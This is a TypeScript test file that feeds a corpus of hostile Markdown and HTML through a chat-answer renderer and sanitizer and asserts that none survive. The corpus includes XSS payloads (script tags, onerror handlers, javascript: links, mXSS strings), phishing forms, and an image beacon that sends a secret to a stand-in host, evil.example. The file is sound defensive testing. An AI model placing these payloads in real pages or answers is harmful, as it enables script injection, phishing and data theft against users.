import { renderBlock, lex } from './render.js';
import { safeFragment } from './sanitize.js';

/** Hostile answers: whatever a model, or a document it read, may put into Markdown. */
const CORPUS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x /></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example)',
  '[x](/api/obo/token)',
  '[x](https://contoso.example@evil.example/)',
  '![secret](https://evil.example/p.png?d=secret)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x][ref]\n\n[ref]: https://evil.example/p.png',
  '<style>body{background:url(https://evil.example)}</style>',
  '<div style="position:fixed;inset:0">cover</div>',
  '<div class="card" role="alert">pretend</div>',
  '```html" onmouseover="alert(1)\nx\n```',
  '```mermaid\nclick A "javascript:alert(1)"\n```',
  '`<img src=x onerror=alert(1)>`',
  '[<img src=x onerror=alert(1)>](https://ok.example)',
  '[x](https://ok.example "t\\" onmouseover=alert(1) x=\\"")',
  '<<script>script>alert(1)<</script>/script>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '| <img src=x onerror=alert(1)> |\n| --- |\n| [x](javascript:alert(1)) |',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<video src="https://evil.example/v.mp4" autoplay></video>',
  '<p id="chat">clobber</p><a name="body">x</a>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
] as const;

function rendered(markdown: string): HTMLElement {
  const host = document.createElement('div');
  for (const token of lex(markdown)) host.append(safeFragment(renderBlock(token)));
  return host;
}

/** Hostile HTML that got past the renderer, as if the renderer had a hole. */
function sanitizedOnly(html: string): HTMLElement {
  const host = document.createElement('div');
  host.append(safeFragment(html));
  return host;
}

const HARMLESS_TAGS = new Set(
  'a b blockquote br code del div em h3 h4 h5 h6 hr i li ol p pre s span strong sub sup table tbody td th thead tr ul'.split(
    ' ',
  ),
);

function faultsOf(host: HTMLElement): readonly string[] {
  return [...host.querySelectorAll('*')].flatMap((element) => {
    const tag = element.tagName.toLowerCase();
    const faults = HARMLESS_TAGS.has(tag) ? [] : [`<${tag}>`];
    for (const { name, value } of element.attributes) {
      if (/^on|^style$|^src|^id$|^name$|^role$|action|^data$/.test(name)) faults.push(`${tag} ${name}`);
      if (name === 'class' && !value.startsWith('hljs')) faults.push(`${tag} class=${value}`);
      if (name === 'href' && !/^(https?|mailto):/.test(value)) faults.push(`${tag} href=${value}`);
      if (name === 'href' && value.includes('@evil')) faults.push(`${tag} href=${value}`);
    }
    return faults;
  });
}

describe('Markdown of an answer', () => {
  it.each(CORPUS)('is harmless once rendered: %s', (markdown) => {
    expect(faultsOf(rendered(markdown))).toEqual([]);
  });

  it.each(CORPUS)('is harmless even where the renderer lets it through: %s', (html) => {
    expect(faultsOf(sanitizedOnly(html))).toEqual([]);
  });

  it('shows raw HTML as the text it is', () => {
    expect(rendered('<b>bold</b> claim').textContent).toContain('<b>bold</b> claim');
  });

  it('opens links elsewhere without handing over where they were found', () => {
    const link = rendered('[docs](https://learn.microsoft.com/entra)').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://learn.microsoft.com/entra');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.dataset['host']).toBe('learn.microsoft.com');
  });

  it('never loads a picture: its words and a link stay', () => {
    const host = rendered('![a chart](https://example.com/chart.png)');
    expect(host.querySelector('img')).toBeNull();
    expect(host.querySelector('a')?.textContent).toBe('a chart');
  });

  it('begins headings below the heading of their turn', () => {
    expect(rendered('# Title').querySelector('h3')?.textContent).toBe('Title');
  });
});
